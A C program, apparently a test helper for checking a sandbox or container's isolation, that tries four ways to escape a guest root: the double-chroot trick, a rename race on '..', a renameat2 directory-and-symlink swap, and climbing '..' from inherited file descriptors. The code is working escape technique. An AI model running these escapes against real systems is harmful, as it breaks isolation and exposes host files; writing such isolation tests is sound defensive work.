/*
 * Tries to get out of a guest root, each way a word:
 *
 *	escape chroot NAME	the classical way out of a chroot, then to NAME below what it found
 *	escape race NAME	".." out of a directory that others move, to NAME
 *	escape swap PATH	through a name that is a directory now and a link to PATH then
 *	escape fds NAME		"..", from every descriptor
 *
 * Prints what it could read of NAME, or "inside".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { RACE_SECONDS = 3 };

/* The content of the file, if it can be opened; and that is the end. */
static void try_read(int dir, const char *path)
{
	char text[200];
	int fd = openat(dir, path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text) - 1);
	text[n > 0 ? n : 0] = 0;
	printf("ESCAPED: %s: %s\n", path, text);
	exit(1);
}

static void up_and_read(int dir, const char *name)
{
	char path[PATH_MAX];

	for (int depth = 0; depth < 40; depth++) {
		int n = 0;

		for (int i = 0; i < depth; i++)
			n += sprintf(path + n, "../");
		sprintf(path + n, "%s", name);
		try_read(dir, path);
	}
}

static int way_chroot(const char *name)
{
	int here = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/jail", 0755);
	if (chroot("/jail"))
		return 2;
	if (fchdir(here))
		return 2;
	for (int i = 0; i < 100; i++)
		if (chdir(".."))
			break;
	if (chroot("."))
		return 2;
	try_read(AT_FDCWD, name);
	up_and_read(AT_FDCWD, name);
	return 0;
}

static int way_race(const char *name)
{
	time_t end = time(NULL) + RACE_SECONDS;
	pid_t movers[2];

	mkdir("/a", 0755);
	mkdir("/a/b", 0755);
	mkdir("/a/b/c", 0755);
	mkdir("/a/b/c/d", 0755);
	for (int i = 0; i < 2; i++) {
		movers[i] = fork();
		if (movers[i])
			continue;
		for (;;) {
			if (i) {
				rename("/a/b/c", "/c");
				rename("/c", "/a/b/c");
			} else {
				rename("/a/b", "/b");
				rename("/b", "/a/b");
			}
		}
	}
	while (time(NULL) < end) {
		if (!chdir("/a/b/c/d") || !chdir("/c/d") || !chdir("/b/c/d"))
			up_and_read(AT_FDCWD, name);
		up_and_read(AT_FDCWD, name);
	}
	for (int i = 0; i < 2; i++) {
		kill(movers[i], SIGKILL);
		waitpid(movers[i], NULL, 0);
	}
	return 0;
}

static int way_swap(const char *path)
{
	char dir[PATH_MAX], *slash, inside[PATH_MAX];
	time_t end = time(NULL) + RACE_SECONDS;
	pid_t mover;

	strcpy(dir, path);
	slash = strrchr(dir, '/');
	*slash++ = 0;
	mkdir("/swap", 0755);
	mkdir("/swap/real", 0755);
	symlink(dir, "/swap/link");
	mover = fork();
	if (mover == 0) {
		for (;;)
			syscall(SYS_renameat2, AT_FDCWD, "/swap/real", AT_FDCWD, "/swap/link", 2);
	}
	snprintf(inside, sizeof(inside), "/swap/real/%s", slash);
	while (time(NULL) < end) {
		for (int i = 0; i < 100; i++)
			try_read(AT_FDCWD, inside);
	}
	kill(mover, SIGKILL);
	waitpid(mover, NULL, 0);
	return 0;
}

static int way_fds(const char *name)
{
	char path[64];

	for (int fd = 0; fd < 64; fd++) {
		up_and_read(fd, name);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		int again = open(path, O_PATH);

		if (again >= 0) {
			up_and_read(again, name);
			close(again);
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	int status = 2;

	if (argc == 3 && !strcmp(argv[1], "chroot"))
		status = way_chroot(argv[2]);
	else if (argc == 3 && !strcmp(argv[1], "race"))
		status = way_race(argv[2]);
	else if (argc == 3 && !strcmp(argv[1], "swap"))
		status = way_swap(argv[2]);
	else if (argc == 3 && !strcmp(argv[1], "fds"))
		status = way_fds(argv[2]);
	if (!status)
		printf("inside\n");
	else
		fprintf(stderr, "escape: %s\n", strerror(errno));
	return status;
}
